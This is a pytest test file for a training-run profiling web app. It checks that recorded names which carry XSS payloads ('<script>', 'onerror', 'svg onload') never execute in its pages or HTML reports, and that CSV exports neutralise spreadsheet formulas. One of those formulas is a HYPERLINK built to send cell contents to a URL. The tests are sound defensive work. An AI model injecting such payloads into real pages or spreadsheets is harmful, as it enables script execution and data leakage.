"""Names in recordings come from files nobody vouches for: none of them may run, in a page or in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import duckdb
import pytest
from playwright.sync_api import Browser, expect

from paceline.diagnosis.diagnose import diagnose
from paceline.output.html_report import write_html
from paceline.output.report_data import report_data
from paceline.run.run import Run
from paceline.web.paging import Column, PagedTable, csv_lines
from support.web.browsing import watched
from support.web.servers import Serve, Server

SCRIPT = "<img src=x onerror=window.hacked=1><script>window.hacked=1</script>"
FORMULA = '=HYPERLINK("http://127.0.0.1:1/?"&A1;"x")'
RUN = "<svg onload=window.hacked=1>"
RANKS = 8


@pytest.fixture(scope="module")
def hostile(serve: Serve, tmp_path_factory: pytest.TempPathFactory) -> Server:
    """A recording whose hosts, operators, groups and tracks are all attempts at something."""
    base = tmp_path_factory.mktemp("hostile")
    run = base / RUN / "run"
    run.mkdir(parents=True)
    script, formula = SCRIPT.replace("'", "''"), FORMULA.replace("'", "''")
    ranks = f"range({RANKS}) AS r"
    selects = {
        "ranks": f"SELECT range AS rank, '{script}' || range // 4 AS host, range % 4 AS device, '{script}' AS note FROM {ranks}",
        "groups": f"SELECT '{script}' AS \"group\", 'dp' AS kind, range AS \"index\", range AS rank FROM {ranks}",
        "steps": f"""SELECT range AS rank, step, step * 100000000 AS start, (step + 1) * 100000000 AS end,
            100000000 AS duration, if(range = 5, 80000000, 50000000) AS computing,
            if(range = 5, 20000000, 50000000) AS exposed FROM {ranks}, unnest([1, 2, 3]) AS s(step)""",
        "collectives": f"""SELECT range AS rank, step, '{script}' AS "group", 'all_reduce' AS op, step AS sequence,
            '{script}' AS name, step * 100000000 + if(range = 5, 80000000, 50000000) AS start,
            if(range = 5, 20000000, 50000000) AS duration FROM {ranks}, unnest([1, 2, 3]) AS s(step)""",
        "kernels": f"""SELECT range AS rank, step, '{formula}' AS name, '{formula}' AS type, 'AI_CORE' AS core,
            step * 100000000 AS start, if(range = 5, 80000000, 50000000) AS duration
            FROM {ranks}, unnest([1, 2, 3]) AS s(step)""",
        "events": f"""SELECT range AS rank, '{script}' AS track, '{script}' AS name, 'kernel' AS category,
            step * 100000000 AS start, 50000000 AS duration FROM {ranks}, unnest([1, 2, 3]) AS s(step)""",
    }
    for table, select in selects.items():
        duckdb.execute(f"COPY ({select}) TO '{run / table}.parquet' (FORMAT parquet)")
    (run / "paceline.json").write_text(json.dumps({"schema": "paceline.tables/1"}))
    return serve(base)


def test_names_are_shown_as_they_are_and_never_run(browser: Browser, hostile: Server) -> None:
    trouble: list[str] = []
    run = hostile.timeline(next(iter(hostile.ids())))
    page = watched(browser, hostile, trouble)
    page.goto(hostile.url)
    expect(page.locator("tbody tr")).to_contain_text(RUN)
    for path in (
        "overview",
        "steps",
        "communication",
        "communication?tab=collectives",
        "cards/5",
        "cards/5?tab=operators",
        "timeline?q=img",
        "what-if",
        "resources",
    ):
        page.goto(f"{hostile.url}/runs/{run}/{path}")
        expect(page.locator("main h1").first).to_be_visible()
        expect(page.locator(".busy, .waiting-table")).to_have_count(0)
        assert page.evaluate("window.hacked") is None
        assert page.locator("main script, main img, main svg[onload]").count() == 0
    page.goto(f"{hostile.url}/runs/{run}/cards/5")
    expect(page.locator("h1")).to_contain_text(SCRIPT)
    page.context.close()
    assert trouble == []


def test_no_cell_of_an_export_is_a_formula(hostile: Server) -> None:
    run = hostile.ready(next(iter(hostile.ids())))
    answer = hostile.client.get(f"/runs/{run}/tables/operators/csv", params={"rank": 5, "level": "name"})
    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not any(cell.startswith(("=", "@", "+", "\t")) for cell in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_whatever_a_spreadsheet_takes_for_a_formula_is_made_a_text(start: str) -> None:
    table = PagedTable("names", "", (Column("name"),), lambda _: "SELECT $q::VARCHAR AS name", ("q",), "name")
    lines = "".join(csv_lines(duckdb.connect(), table, {"q": f"{start}1+1"}, "name"))
    assert list(csv.reader(io.StringIO(lines, newline="")))[1] == ["'" + start.replace("\r", "�") + "1+1"]


def test_the_report_of_such_a_run_does_not_run_them(browser: Browser, hostile: Server, tmp_path: Path) -> None:
    with Run(hostile.base / RUN / "run", store=tmp_path / "store") as run:
        write_html(report_data(run, {"en": diagnose(run)}), tmp_path / "report.html")
    page = browser.new_page()
    page.set_default_timeout(120_000)
    page.goto((tmp_path / "report.html").as_uri())
    expect(page.locator("#findings h2")).to_be_visible()
    expect(page.locator(".bars")).to_contain_text(SCRIPT)
    assert page.evaluate("window.hacked") is None
    page.close()
